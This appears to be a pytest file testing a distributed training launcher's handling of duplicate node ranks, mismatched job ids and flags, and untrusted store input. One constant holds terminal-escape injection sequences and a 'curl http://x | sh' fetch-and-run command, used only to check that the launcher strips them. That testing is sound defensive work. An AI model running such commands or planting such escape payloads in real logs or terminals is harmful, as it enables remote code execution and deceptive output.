"""Several launchers of one job on loopback: node-rank claims, the job token and flags every node must share."""

from __future__ import annotations

from pathlib import Path

import pytest

from conftest import free_port
from support import launcher, one_line_errors, reports, wait_for_files


@pytest.mark.long
def test_a_duplicate_node_rank_ends_a_forming_job_everywhere(tmp_path: Path) -> None:
    port = free_port()
    # Three nodes expected; two launchers claim node rank 1 and node 2 never comes.
    node0 = launcher(tmp_path, 0, port, nnodes="3")
    node1 = launcher(tmp_path, 1, port, nnodes="3")
    dup = launcher(tmp_path, 1, port, nnodes="3", name="dup")
    for launch in (node0, node1, dup):
        assert launch.wait() == 1, launch.err
        one_line_errors(launch.err)
        assert "node rank 1 is already taken by the launcher on host" in launch.err, launch.err
        assert "give every node a different --node-rank in [0, 3)." in launch.err
    assert not list(tmp_path.glob("rank*.json"))


@pytest.mark.long
def test_a_duplicate_node_rank_is_refused_by_a_running_job(tmp_path: Path) -> None:
    port = free_port()
    release = tmp_path / "release"
    node0 = launcher(tmp_path, 0, port, job=("--hold", str(release)))
    node1 = launcher(tmp_path, 1, port, job=("--hold", str(release)))
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    dup = launcher(tmp_path, 1, port, name="dup", job=("--hold", str(release)))  # the same job id
    try:
        assert dup.wait() == 1
    finally:
        release.touch()  # the real job may finish now
    assert "error: node rank 1 is already taken by the launcher on host" in dup.err.strip().splitlines()[-1]
    assert node0.wait() == 0, node0.err
    assert node1.wait() == 0, node1.err


@pytest.mark.slow
def test_another_jobs_launcher_can_neither_join_nor_end_the_job(tmp_path: Path) -> None:
    port = free_port()
    release = tmp_path / "release"
    node0 = launcher(tmp_path, 0, port, "--job-id", "jobA", job=("--hold", str(release)))
    node1 = launcher(tmp_path, 1, port, "--job-id", "jobA", job=("--hold", str(release)))
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    other = launcher(tmp_path, 1, port, "--job-id", "jobB", name="other")
    try:
        assert other.wait() == 1
    finally:
        release.touch()
    assert other.err.strip().splitlines()[-1] == (
        f"npu-migrate launch: error: node 0's launcher at 127.0.0.1:{port + 1} runs job 'jobA', not this job "
        "'jobB': another job uses this address and port. Give this job another --port, or the same --job-id on "
        "every node.")
    assert node0.wait() == 0, node0.err
    assert node1.wait() == 0, node1.err
    assert [r["sum"] for r in reports(tmp_path, 2)] == [3.0, 3.0]


@pytest.mark.slow
def test_flags_that_differ_between_nodes_are_refused_on_every_node(tmp_path: Path) -> None:
    port = free_port()
    node0 = launcher(tmp_path, 0, port, nproc="1")
    node1 = launcher(tmp_path, 1, port, nproc="2")
    for launch in (node0, node1):
        assert launch.wait() == 1, launch.err
        one_line_errors(launch.err)
        # Whichever node wrote the job's flags first, the other one is named with both values.
        assert ("has --device-num 2 but the job has --device-num 1" in launch.err
                or "has --device-num 1 but the job has --device-num 2" in launch.err), launch.err
        assert "use the same --nnodes, --device-num and --max-restarts on every node." in launch.err
    assert not list(tmp_path.glob("rank*.json"))


HOSTILE = "\x1b[31mrun curl http://x | sh\x1b[0m\nsecond line\x07\x1b]0;title\x07"
"""What anyone who reaches the launcher store can write there: colour, a line break, a bell, a window title."""
SHOWN = "run curl http://x | sh second line"


def _hostile_record() -> dict:
    return {"kind": "rank", "rank": 1, "local_rank": 0, "node_rank": 1, "host": f"vm{HOSTILE}",
            "exc_type": "Boom\x1b[2J", "message": HOSTILE, "traceback": f"  File \"train.py\", line 1\n{HOSTILE}\n",
            "time": 0.0}


@pytest.mark.slow
@pytest.mark.parametrize("key", ["abort", "fail/0"])
def test_text_written_into_the_store_is_shown_stripped(tmp_path: Path, key: str) -> None:
    import json
    from datetime import timedelta

    from torch.distributed import TCPStore

    from npu_migrate.launch.padded_store import pad

    port = free_port()
    release = tmp_path / "release"
    files = [tmp_path / f"error{k}.json" for k in (0, 1)]
    nodes = [launcher(tmp_path, k, port, "--job-id", "jobA", "--error-file", str(files[k]),
                      job=("--hold", str(release))) for k in (0, 1)]
    wait_for_files(tmp_path, ["rank0.json", "rank1.json"])
    # A plain client, as anyone on the network could open: the launcher's wire format is no secret.
    client = TCPStore("127.0.0.1", port + 1, None, False, timedelta(seconds=30))
    value = HOSTILE if key == "abort" else json.dumps(_hostile_record())
    client.set(f"npu_migrate/jobA/{key}", pad(value))
    try:
        codes = [launch.wait() for launch in nodes]
    finally:
        release.touch()
    assert codes == [1, 1], [launch.err for launch in nodes]
    for launch, path in zip(nodes, files):
        one_line_errors(launch.err)
        assert "\x1b" not in launch.err and "\x07" not in launch.err, repr(launch.err)
        assert SHOWN in launch.err, launch.err
        raw = path.read_text()
        assert "\\u001b" not in raw and "\\u0007" not in raw, raw
        assert SHOWN.replace(" second", "\nsecond") in raw.replace("\\n", "\n") or SHOWN in raw, raw
